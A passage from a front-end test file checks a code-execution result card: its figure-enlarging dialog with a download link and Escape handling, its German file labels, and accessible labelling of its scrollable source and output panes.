    expect(screen.getByRole("img")).toHaveStyle({ aspectRatio: "auto 1200 / 400" });
  });

  it("opens a figure large in a dialog named by what it shows, with a download, and closes it with Escape", async () => {
    const user = userEvent.setup();
    render(<ExecuteCodeCard {...withFiles} />);
    const open = screen.getByRole("button", { name: "Enlarge the figure: Squares, x: n, y: n squared" });
    await user.click(open);
    const dialog = await screen.findByRole("dialog", { name: "Squares, x: n, y: n squared" });
    expect(within(dialog).getByRole("img", { name: "Squares, x: n, y: n squared" })).toHaveAttribute(
      "src",
      "/api/files/run-1/figure-1",
    );
    expect(within(dialog).getByRole("link", { name: "Download figure-1.png (6.9 KB)" })).toHaveAttribute(
      "download",
      "figure-1.png",
    );
    await user.keyboard("{Escape}");
    expect(screen.queryByRole("dialog")).toBeNull();
    expect(open).toHaveFocus();
  });

  it("names files in German with the German labels", () => {
    render(<ExecuteCodeCard {...withFiles} labels={germanLabels} />);
    expect(screen.getByRole("group", { name: "Abbildungen" })).toBeInTheDocument();
    expect(screen.getByRole("link", { name: "squares.csv herunterladen (61 B)" })).toBeInTheDocument();
  });
});

describe("a pane that scrolls", () => {
  it("is a document named by its pane, so the keyboard's stop says what it holds", () => {
    const { container } = render(
      <ExecuteCodeCard {...call(primesCode, { result: completed({ stdout: primesOutput }) })} />,
    );
    for (const name of ["source", "stdout"] as const) {
      const pane = slot(container, name)!;
      const body = pane.querySelector("pre")!;
      expect(body).toHaveAttribute("tabindex", "0");
      expect(body).toHaveAttribute("role", "document");
      expect(body.getAttribute("aria-labelledby")).toBe(pane.getAttribute("aria-labelledby"));
    }
    expect(within(slot(container, "stdout")!).getByRole("document", { name: "Output" })).toBe(
      slot(container, "stdout")!.querySelector("pre"),
    );
  });
});
